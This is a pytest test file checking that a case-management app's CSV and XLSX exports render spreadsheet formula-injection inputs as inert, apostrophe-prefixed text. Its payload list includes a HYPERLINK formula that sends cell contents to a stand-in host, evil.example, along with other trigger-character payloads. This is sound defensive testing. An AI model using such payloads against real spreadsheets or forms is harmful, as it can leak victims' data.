"""Formula injection: hostile text in real cases (filer name, subject, procedure and unit names)
comes back from every export (CSV, instant XLSX, prepared XLSX) as inert text: no formula cell,
no cell starting with a trigger, the payload still readable after the apostrophe."""

from __future__ import annotations

import csv
import io
import secrets
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import select

from sgd_app import db, settings
from sgd_app.domain import exports, filters, intake, summaries
from sgd_app.domain.documents import FileStore
from sgd_app.domain.models import Expediente, Party, Procedure, Unit
from tests.conftest import make_pdf, principal
from tests.integration.test_reports_api import BASE, _client

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")  # "\n": a CR may come back as LF from XML
PROCEDURE_PAYLOAD = "@SUM(A1) Suspensión"
UNIT_PAYLOAD = "-2+3 Tesorería"


def _file(i: int, name: str, subject: str) -> str:
    """A case for Tesorería through the front desk, by filer ``i`` (one party per case)."""
    with db.write_session() as s:
        return intake.file_case(
            s,
            FileStore(settings.files_dir()),
            procedure_code="SUSP-MUL",
            subject=subject,
            fields={"multa": f"M-{i}"},
            filer=intake.FilerInput(
                doc_type="DNI",
                doc_number=f"4567891{i}",
                name=name,
                kind="ciudadano",
                email=f"filer{i}@example.pe",
                phone="987654321",
            ),
            files=[intake.IncomingFile("s.pdf", make_pdf(), "principal")],
        ).case.number


@pytest.fixture
def hostile(app_db):
    """One case per payload, in Tesorería (the manager's scope): the first filed through the front
    desk with the payload as filer name and subject; the rest set as they might arrive from
    another channel (TAB / CR kept). The procedure and the unit carry payloads too."""
    numbers = [_file(0, PAYLOADS[0], PAYLOADS[0])]
    numbers += [_file(i, "Rosa Ñahui Quispe", "Suspensión de cobranza") for i in range(1, len(PAYLOADS))]
    with db.write_session() as s:
        for number, payload in zip(numbers, PAYLOADS, strict=True):
            case = s.exec(select(Expediente).where(Expediente.number == number)).one()
            party = s.get(Party, case.party_id)
            assert party is not None
            if number == numbers[0]:
                assert party.name == payload and case.subject == payload  # the front desk let it in
            s.execute(update(Party).where(Party.id == case.party_id).values(name=payload))
            s.execute(update(Expediente).where(Expediente.id == case.id).values(subject=payload))
        s.execute(update(Procedure).where(Procedure.code == "SUSP-MUL").values(name=PROCEDURE_PAYLOAD))
        s.execute(update(Unit).where(Unit.code == "TES").values(name=UNIT_PAYLOAD))
    summaries.rebuild(db.engine())
    return numbers


def _check_text(value: str) -> None:
    assert value[:1] not in TRIGGERS, repr(value)


def _check_payload_cell(value: str, payload: str) -> None:
    assert value.startswith("'"), repr(value)
    assert value[1:] == payload or value[1:] == payload.replace("\r", "\n"), (value, payload)


def test_csv_cells_are_inert(hostile):
    resp = _client("gerente").get(f"{BASE}/expedientes.csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    by_number = {r[0]: r for r in rows[1:]}
    assert set(by_number) == set(hostile)
    for row in rows:
        for value in row:
            _check_text(value)
    for number, payload in zip(hostile, PAYLOADS, strict=True):
        row = by_number[number]
        _check_payload_cell(row[8], payload)  # Remitente
        _check_payload_cell(row[10], payload)  # Asunto
        assert row[3] == "'" + PROCEDURE_PAYLOAD and row[7] == "'" + UNIT_PAYLOAD
        assert row[1].count("/") == 2 and row[12].isdigit()  # dates and folios as before


def _check_workbook(data: bytes, numbers: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.data_type == "s"
                    _check_text(c.value)
                    seen += 1
    assert seen > 50
    sheet = wb["Expedientes"]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    assert set(rows) == set(numbers)
    for number, payload in zip(numbers, PAYLOADS, strict=True):
        r = rows[number]
        _check_payload_cell(r[8].value, payload)
        _check_payload_cell(r[10].value, payload)
        assert r[3].value == "'" + PROCEDURE_PAYLOAD and r[7].value == "'" + UNIT_PAYLOAD
        assert r[1].is_date and r[2].is_date and r[11].is_date  # real dates stay dates
        assert isinstance(r[12].value, int) and r[12].data_type == "n"  # folios: a number
    summary = {r[0]: r[1] for r in wb["Resumen"].iter_rows(values_only=True) if r and r[0]}
    assert summary["'" + UNIT_PAYLOAD] == len(numbers)  # the tables' labels too
    assert summary["'" + PROCEDURE_PAYLOAD] == len(numbers)
    assert summary["Expedientes"] == len(numbers)  # numbers stay numbers


def test_instant_xlsx_cells_are_inert(hostile):
    resp = _client("gerente").get(f"{BASE}/expedientes.xlsx")
    assert resp.status_code == 200
    _check_workbook(resp.content, hostile)


def test_prepared_xlsx_cells_are_inert(hostile):
    token = secrets.token_hex(16)
    who = principal(db.engine(), "gerente")
    exports.prepare_xlsx(who, filters.ReportFilters(), token)
    resp = _client("gerente").get(f"{BASE}/descarga/{token}")
    assert resp.status_code == 200
    _check_workbook(resp.content, hostile)
